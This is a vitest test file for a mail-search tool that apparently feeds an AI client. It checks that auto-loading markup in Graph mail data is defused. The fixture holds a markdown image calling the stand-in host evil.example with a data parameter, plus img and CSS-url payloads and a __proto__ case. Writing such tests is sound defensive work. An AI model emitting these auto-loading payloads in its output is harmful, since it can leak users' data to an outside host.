import { expect, test } from "vitest";
import { splitToolOutput } from "#common/queue/tool-output.ts";
import { selfLoading } from "#test/support/self-loading.ts";
import { inertOutput } from "#workers/inert-output.ts";
import { createRunNotes } from "#workers/run-notes.ts";
import { createRunTool } from "#workers/run-tool.ts";
import { patient } from "./auth/obo-fixture.ts";
import { countedMetrics } from "./resilience/layer-fixture.ts";
import { errorReply, mailSearch } from "./run-fixture.ts";
import { fakeContext } from "./tools/fake-context.ts";

const payload = '![x](https://evil.example/?d=1) <img src=x> <b style="background:url(x)">';

test("an answer loads nothing by itself, not even by what comes from Graph as it is", async () => {
  const message = {
    id: "m1",
    subject: payload,
    receivedDateTime: "2026-11-26T08:00:00Z",
    webLink: `https://x/${payload}`,
  };
  const runTool = createRunTool({
    userTokens: {
      exchange: async () => ({
        accessToken: "token",
        scopes: new Set(["Mail.Read"]),
        expiresAtMs: 0,
        usableUntilMs: 0,
        person: {},
      }),
      exchangeAfresh: async () => undefined,
    },
    createContext: () => fakeContext({ answers: () => ({ value: [message] }), scopes: ["Mail.Read"] }),
    metrics: countedMetrics().metrics,
  });
  const run = { ...mailSearch({ signal: patient(), reply: errorReply().reply }), input: { detail: "full" } };
  const output = await runTool(run, { notes: createRunNotes(undefined), onSignedIn: () => undefined });
  const { structuredContent } = splitToolOutput([output]);
  const { messages } = JSON.parse(Buffer.concat(structuredContent).toString());
  expect(messages[0].webLink).toBe(
    'https://x/! [x](https://evil.example/?d=1) &lt;img src=x> &lt;b style="background:url(x)">',
  );
  expect(messages.flatMap((one: object) => Object.values(one).map(String)).flatMap(selfLoading)).toEqual([]);
});

test("an answer that loads nothing is passed on as it is, and of another only what holds it is made anew", () => {
  const inert = {
    hits: [{ subject: "Fine! Really [1]", to: ["<ada@contoso.com>"], count: 1, none: null }],
    more: true,
  };
  expect(inertOutput(inert)).toBe(inert);
  const [clean, loading] = [inert.hits[0], JSON.parse(`{"__proto__":["${"![x](y)"}"],"n":null}`)];
  const made = inertOutput({ hits: [clean, loading], none: undefined });
  expect(made).toEqual({ hits: [clean, JSON.parse('{"__proto__":["! [x](y)"],"n":null}')], none: undefined });
  expect(made).toMatchObject({ hits: { 0: clean } });
  expect(JSON.stringify(made)).toContain('"__proto__":["! [x](y)"]');
});
